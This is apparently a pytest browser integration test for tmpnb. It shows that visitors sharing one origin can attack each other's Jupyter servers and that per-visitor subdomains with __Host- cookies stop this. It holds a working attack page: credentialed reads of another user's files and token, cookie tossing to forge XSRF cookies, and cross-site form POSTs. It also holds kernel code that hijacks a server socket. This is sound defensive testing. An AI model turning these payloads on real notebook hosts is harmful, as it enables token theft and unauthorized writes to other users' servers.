"""Each visitor its own origin, tried as an attacker would, in headless Chromium with the real
engine and image.

Visitor A's kernel unlinks its server's socket and binds its own HTTP server there, serving a
page of A's choosing at A's URL. Visitor B, logged in to B's notebook in the same browser, opens
it. In path mode (every server on tmpnb's one origin) A's page reads B's file list, B's page with
B's token and B's kernels, and a cookie it tosses satisfies B's XSRF check, so a form post
writes into B's server: the test shows all of that, so it proves the difference. With
`--subdomain-host http://nb.localhost:PORT` none of it works.

`nb.localhost`, not `localhost`: Chromium resolves every `*.localhost` to loopback and, with
no public-suffix entry for `localhost`, treats it as a public suffix, so `a.localhost` and
`b.localhost` are different sites where no cookie can be tossed at all. Under `nb.localhost`
siblings are one site, as `<id>.nb.example.org` are: the realistic, harder case.

Both tmpnbs run with `--allow-origin=*`, as a site using thebe would: the server's own Origin
check then lets any cross-origin POST reach the XSRF check, which only the host-locked
`__Host-` cookie keeps from a tossed one.
"""

from __future__ import annotations

import json
import re
import time
from dataclasses import dataclass
from urllib.parse import quote

import pytest

from test_browser import ARTIFACTS, browser  # noqa: F401  (the fixture)
from tmpnb_process import Tmpnb, TmpnbError, auth, call, execute, free_port, start_kernel

pytestmark = [pytest.mark.integration, pytest.mark.browser]

PARENT = "nb.localhost"
MARKER = "evil-page-6604"
WAIT = 120_000  # ms: a busy 2-core machine
# Both visitors come from 127.0.0.1: the per-client share (a quarter of the capacity by default)
# would turn the second away.
ONE_ADDRESS = ("--client-share=1",)
BOOT_WAIT = 300  # s

# A's page: reads what it can of B's server, tosses cookies, then posts forms at B's server and
# at tmpnb. What it learnt goes to window.stolen; the title says when it is done.
EVIL_PAGE = """<!doctype html><html><head><meta charset="utf-8"><title>MARKER</title></head><body>
<iframe name="sink1"></iframe><iframe name="sink2"></iframe><iframe id="peek"></iframe>
<script>
(async () => {
  const target = JSON.parse(decodeURIComponent(location.hash.slice(1)));
  const b = target.server;  // B's server: origin + /user/<B>/
  const out = {reads: {}, frame: null};
  async function read(name, url) {
    try {
      const r = await fetch(url, {credentials: "include"});
      out.reads[name] = {status: r.status, text: (await r.text()).slice(0, 200000)};
    } catch (e) { out.reads[name] = {error: String(e)}; }
  }
  await read("contents", b + "api/contents");
  await read("page", b + "tree");
  await read("kernels", b + "api/kernels");
  const peek = document.getElementById("peek");
  await new Promise(done => { peek.onload = done; peek.src = b + "tree"; setTimeout(done, 15000); });
  try { out.frame = peek.contentDocument.documentElement.outerHTML.slice(0, 200000); }
  catch (e) { out.frame = "blocked: " + e.name; }

  // Cookie tossing: for the parent domain in subdomain mode, for B's path on one origin.
  const domain = target.domain ? "; Domain=" + target.domain : "";
  const path = new URL(b).pathname;
  for (const cookie of [
      "_xsrf=746f73736564; Path=" + path + domain,
      "_xsrf=746f73736564; Path=/" + domain,
      "__Host-tmpnb-xsrf=746f73736564; Path=/; Secure" + domain,
      "__Host-tmpnb-login=forged; Path=/; Secure" + domain,
      "username-forged=forged; Path=/" + domain]) {
    document.cookie = cookie;
  }
  out.cookies = document.cookie;

  function post(action, target, fields) {
    return new Promise(done => {
      const sink = document.getElementsByName(target)[0];
      sink.onload = done; setTimeout(done, 15000);
      const form = document.createElement("form");
      form.method = "POST"; form.action = action; form.target = target; form.enctype = "text/plain";
      for (const [name, value] of fields) {
        const input = document.createElement("input");
        input.type = "hidden"; input.name = name; input.value = value; form.appendChild(input);
      }
      document.body.appendChild(form); form.submit();
    });
  }
  // An empty POST to api/contents makes a new untitled file, if the XSRF check lets it through.
  await post(b + "api/contents?_xsrf=746f73736564", "sink1", []);
  // tmpnb's own API, the body made into JSON by a text/plain form.
  await post(target.bare + "/api/share?_xsrf=746f73736564", "sink2",
             [['{"url": "' + path + 'notebooks/Welcome.ipynb", "pad": "', '"}']]);
  window.stolen = out;
  document.title = "done";
})();
</script></body></html>
""".replace("MARKER", MARKER)

# Run in A's kernel: A's server gives up its socket to a server of A's own.
REPLACE_SERVER = """
import http.server, os, socketserver, threading
PAGE = {page!r}.encode()
class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    def do_GET(self):
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(PAGE)))
        self.end_headers()
        self.wfile.write(PAGE)
    def log_message(self, *args):
        pass
class Server(socketserver.ThreadingMixIn, socketserver.UnixStreamServer):
    daemon_threads = True
SOCK = "/run/tmpnb/jupyter.sock"
os.unlink(SOCK)
server = Server(SOCK, Handler)
os.chmod(SOCK, 0o666)
threading.Thread(target=server.serve_forever, daemon=True).start()
"""


@dataclass(frozen=True)
class Visitor:
    origin: str  # where the visitor's server is: tmpnb's origin, or their own subdomain's
    prefix: str  # /user/<id>/
    token: str

    @property
    def server(self) -> str:
        return self.origin + self.prefix

    @property
    def container_id(self) -> str:
        return self.prefix.split("/")[2]


def arrive(bare: str) -> Visitor:
    """A visitor opens / on tmpnb's bare host; where they are sent."""
    reply = call(bare, "GET", "/")
    if reply.status != 302:
        raise TmpnbError(f"no redirect from /: {reply.status} {reply.body[:300]!r}")
    location = reply.headers["location"]
    match = re.fullmatch(r"(https?://[^/]+)?(/user/([A-Za-z0-9]+)/)[^?]*\?token=([0-9a-f]+)", location)
    if not match:
        raise TmpnbError(f"unexpected redirect {location}")
    return Visitor(match.group(1) or bare, match.group(2), match.group(4))


def replace_server(attacker: Visitor) -> None:
    """A's kernel binds its own server on A's socket; waits until the proxy reaches it (its
    idle keep-alive connections to A's real server close after 5 s unused)."""
    kernel = start_kernel(attacker.origin, attacker.prefix, attacker.token)
    execute(attacker.origin, attacker.prefix, attacker.token, kernel, REPLACE_SERVER.format(page=EVIL_PAGE))
    deadline = time.monotonic() + 90
    while True:
        time.sleep(6)  # longer than the proxy keeps a connection idle: never reuse one
        if MARKER in call(attacker.origin, "GET", attacker.prefix + "welcome").body.decode("utf-8", "replace"):
            return
        assert time.monotonic() < deadline, "A's own server never answered at A's URL"


def files_of(victim: Visitor) -> list[str]:
    reply = call(victim.origin, "GET", victim.prefix + "api/contents", headers=auth(victim.token))
    assert reply.status == 200, reply
    return sorted(item["name"] for item in reply.json()["content"])


def attack(browser, attacker: Visitor, victim: Visitor, bare: str, domain: str) -> tuple[dict, list, list]:  # noqa: F811
    """B logs in to B's server, then opens A's URL in the same browser. (what A's page stole,
    the POSTs A's page made with their statuses, the cookies the browser holds)."""
    context = browser.new_context()
    posts: list[tuple[str, int]] = []
    page = context.new_page()
    page.on("response", lambda r: posts.append((r.url, r.status)) if r.request.method == "POST" else None)
    try:
        page.goto(victim.server + "tree?token=" + victim.token, wait_until="domcontentloaded")
        page.locator(".jp-DirListing-content").wait_for(timeout=WAIT)
        target = {"server": victim.server, "bare": bare, "domain": domain}
        page.goto(attacker.server + "welcome#" + quote(json.dumps(target)), wait_until="domcontentloaded")
        page.wait_for_function("document.title === 'done'", timeout=WAIT)
        return page.evaluate("window.stolen"), posts, context.cookies()
    except Exception:
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "origins-attack-failure.png"))
        raise
    finally:
        context.close()


def two_visitors(tmpnb: Tmpnb, bare: str) -> tuple[Visitor, Visitor]:
    tmpnb.wait_available(2, timeout=BOOT_WAIT)
    attacker, victim = arrive(bare), arrive(bare)
    assert attacker.container_id != victim.container_id
    replace_server(attacker)
    return attacker, victim


def test_in_path_mode_a_visitors_page_reads_and_writes_another_visitors_server(launch, browser):  # noqa: F811
    """The attack, shown to work where every server shares one origin."""
    # --writable-socket-dirs: the attacker replaces their own server through its socket
    # directory, which tmpnb otherwise seals at boot; the origins must hold even if a visitor's
    # server is theirs by some other way (their own code runs beside it, as their uid).
    tmpnb = launch("--pool-size=2", "--capacity=3", "--allow-origin=*", "--cull-period=300", *ONE_ADDRESS,
                   "--writable-socket-dirs")
    attacker, victim = two_visitors(tmpnb, tmpnb.base)
    assert attacker.origin == victim.origin == tmpnb.base
    before = files_of(victim)

    stolen, posts, _ = attack(browser, attacker, victim, tmpnb.base, "")

    assert stolen["reads"]["contents"]["status"] == 200
    listing = json.loads(stolen["reads"]["contents"]["text"])  # B's home directory, as JSON
    assert listing["type"] == "directory" and listing["path"] == "", listing
    assert victim.token in stolen["reads"]["page"]["text"]
    assert stolen["reads"]["kernels"]["status"] == 200
    assert stolen["frame"].startswith("<html")  # B's page, in a frame A's script reads
    # The tossed _xsrf cookie passed B's XSRF check: A's form wrote a file into B's server.
    assert any(url.startswith(victim.server + "api/contents") and status == 201 for url, status in posts), posts
    assert len(files_of(victim)) == len(before) + 1, (before, files_of(victim))
    # tmpnb's own API takes no cookie: the tossed ones do nothing there either way.
    assert all(status in (401, 403) for url, status in posts if "/api/share" in url), posts


def test_with_subdomains_a_visitors_page_gets_nothing_of_another_visitors_server(launch, browser):  # noqa: F811
    port = free_port()
    bare = f"http://{PARENT}:{port}"
    tmpnb = launch("--pool-size=2", "--capacity=3", "--allow-origin=*", "--cull-period=300", *ONE_ADDRESS,
                   "--writable-socket-dirs", f"--subdomain-host={bare}", port=port)  # as above
    attacker, victim = two_visitors(tmpnb, bare)
    for visitor in (attacker, victim):
        assert visitor.origin == f"http://{visitor.container_id}.{PARENT}:{port}"
        assert re.fullmatch(r"[a-z0-9]{14}", visitor.container_id)  # lower-case, 72 bits
    # A's server answers on A's host only: not on B's, not on tmpnb's bare host.
    assert MARKER not in call(victim.origin, "GET", attacker.prefix + "welcome").body.decode("utf-8", "replace")
    assert MARKER not in call(bare, "GET", attacker.prefix + "welcome").body.decode("utf-8", "replace")
    before = files_of(victim)

    stolen, posts, cookies = attack(browser, attacker, victim, bare, PARENT)

    for name, read in stolen["reads"].items():
        assert "error" in read or read["status"] in (401, 403), (name, read)
        assert victim.token not in json.dumps(read), name
        assert "Welcome.ipynb" not in json.dumps(read), name
    assert stolen["frame"].startswith("blocked"), stolen["frame"][:300]
    # The tossed cookies were there (the browser took the ones without __Host-)...
    assert "_xsrf=746f73736564" in stolen["cookies"]
    # ...and B's server refused the form all the same: its XSRF cookie is host-locked.
    assert any(url.startswith(victim.server + "api/contents") and status == 403 for url, status in posts), posts
    assert files_of(victim) == before
    assert all(status in (401, 403) for url, status in posts if "/api/share" in url), posts
    # Every cookie the servers set is host-locked; the browser refused the tossed __Host- ones.
    set_by_servers = [c for c in cookies if c["name"].startswith("__Host-")]
    assert {c["name"] for c in set_by_servers} >= {"__Host-tmpnb-login", "__Host-tmpnb-xsrf"}, cookies
    assert all(c["domain"] == f"{victim.container_id}.{PARENT}" and c["path"] == "/" and c["secure"]
               for c in set_by_servers), cookies
    assert not [c for c in cookies if c["domain"] == f"{victim.container_id}.{PARENT}"
                and not c["name"].startswith("__Host-")], cookies
